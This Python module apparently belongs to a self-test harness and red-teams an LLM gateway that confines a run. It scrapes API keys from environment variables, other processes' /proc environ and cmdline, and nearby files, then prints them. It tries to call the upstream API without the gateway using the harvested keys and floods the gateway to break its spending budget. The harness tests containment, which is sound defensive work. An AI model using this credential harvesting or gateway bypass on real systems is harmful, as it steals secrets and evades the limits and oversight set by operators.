"""The red team's attacks on the run's LLM gateway: find the upstream key, call the upstream past the gateway,
spend past the budget. Each returns what it got; the orchestrator judges it against the upstream's own bill
and looks for its canary key in everything the run wrote or printed.
"""

import os
import re
import sys
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx

KEYISH = re.compile(r"sk-[A-Za-z0-9_-]{12,}")
_NAMES = ("KEY", "TOKEN", "SECRET", "PASS")
_URL = re.compile(r"https?://(?:127\.0\.0\.1|localhost|\[::1\]):\d+[^\s\"'\x00]*")


def _scan(text, where, found):
    for match in KEYISH.findall(text):
        found.setdefault(match, where)


def _read(path, limit=1 << 20):
    try:
        if path.is_symlink() or not path.is_file() or path.stat().st_size > limit:
            return None
        return path.read_bytes().decode(errors="replace")
    except OSError:
        return None


def find_keys(ws, gateway_dir):
    """Every key-like string in reach: this environment, every process's environment and command line, the
    files of the workspace and of each folder above it, and the gateway's folder."""
    found, urls = {}, set()
    for name, value in os.environ.items():
        if any(part in name.upper() for part in _NAMES) and len(value) >= 8:
            found.setdefault(value, f"${name}")
        _scan(value, f"${name}", found)
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or proc.name == str(os.getpid()):
            continue
        for part in ("environ", "cmdline"):
            try:
                text = (proc / part).read_bytes().decode(errors="replace")
            except OSError:
                continue
            _scan(text, f"/proc/{proc.name}/{part}", found)
            urls.update(_URL.findall(text))
            for entry in text.split("\0"):
                name, _, value = entry.partition("=")
                if part == "environ" and any(p in name.upper() for p in _NAMES) and len(value) >= 8:
                    found.setdefault(value, f"/proc/{proc.name}/environ:{name}")
    files = 0
    roots = [(ws, True), *((p, False) for p in ws.parents)]
    if gateway_dir:
        roots.append((Path(gateway_dir), True))
    for root, deep in roots:
        try:
            paths = root.rglob("*") if deep else root.iterdir()
            for path in paths:
                files += 1
                if files > 4000:
                    break
                text = _read(path)
                if text:
                    _scan(text, str(path), found)
        except OSError:
            continue
    return found, sorted(urls)


def call_direct(upstream, keys, urls):
    """Calls straight to the upstream, past the gateway: with no key and with each key found."""
    got = {}
    bases = [u.rstrip("/") for u in ([upstream] if upstream else []) + [u for u in urls if "/v1" in u]][:6]
    body = {"model": "selftest", "messages": [{"role": "user", "content": "direct"}], "max_tokens": 2000}
    for base in dict.fromkeys(bases):
        for key in [None, *list(keys)[:6]]:
            headers = {"Authorization": f"Bearer {key}"} if key else {}
            label = f"{base} with {'no key' if key is None else 'a found key'}"
            try:
                r = httpx.post(base + "/chat/completions", json=body, headers=headers, timeout=5, trust_env=False)
                got[label] = r.status_code
            except httpx.HTTPError as exc:
                got[label] = type(exc).__name__
    return got


def _one(base, token, kind):
    """One call through the gateway: its status, or the error's name."""
    headers = {"Authorization": f"Bearer {token}"}
    msg = [{"role": "user", "content": "spend " + "x" * 40}]
    body = {"model": "selftest", "messages": msg}
    if kind == "huge":
        body["max_tokens"] = 1_000_000
    elif kind == "many":
        body.update(n=8, max_completion_tokens=50_000)
    path = "/chat/completions"
    if kind == "responses":
        path, body = "/responses", {"model": "selftest", "input": "spend", "max_output_tokens": 4000}
    elif kind == "completions":
        path, body = "/completions", {"model": "selftest", "prompt": "spend", "max_tokens": 4000}
    try:
        if kind in ("stream", "abandon"):
            body["stream"] = True
            with httpx.stream("POST", base + path, json=body, headers=headers, timeout=60, trust_env=False) as r:
                for _ in r.iter_bytes():
                    if kind == "abandon":
                        break  # read one piece and go: the upstream may go on generating
                return r.status_code
        r = httpx.post(base + path, json=body, headers=headers, timeout=60, trust_env=False)
        if r.status_code == 429 and "llm_budget_exhausted" in r.text:
            return "exhausted"
        return r.status_code
    except httpx.HTTPError as exc:
        return type(exc).__name__


def overspend(base, token):
    """Concurrent calls of every kind, then calls until the budget is refused, then more calls after it."""
    if not base or not token:
        return {"error": "no gateway in this run's environment (OPENAI_BASE_URL, OPENAI_API_KEY)"}
    kinds = ["huge", "default", "many", "stream", "abandon"] * 4
    seen = Counter()
    with ThreadPoolExecutor(len(kinds)) as pool:
        for status in pool.map(lambda k: _one(base, token, k), kinds):
            seen[str(status)] += 1
    refused = seen["exhausted"] > 0
    for i in range(40):
        if refused:
            break
        status = _one(base, token, ("default", "huge", "stream")[i % 3])
        seen[str(status)] += 1
        refused = status == "exhausted"
    after = Counter()
    if refused:
        with ThreadPoolExecutor(8) as pool:
            for status in pool.map(
                lambda k: _one(base, token, k),
                ["default", "huge", "stream", "abandon", "many", "responses", "completions", "default"],
            ):
                after[str(status)] += 1
    return {"calls": dict(seen), "refused": refused, "after_refusal": dict(after)}


def attack(ws, cfg):
    keys, urls = find_keys(ws, cfg.get("gateway_dir"))
    for key, where in keys.items():  # printed as well as written: the orchestrator looks in both
        print(f"selftest red team: key-like value at {where}: {key}", file=sys.stderr)
    direct = call_direct(cfg.get("upstream"), keys, urls)
    spent = overspend(os.environ.get("OPENAI_BASE_URL"), os.environ.get("OPENAI_API_KEY"))
    return {"keys": keys, "direct": direct, "spend": spent}
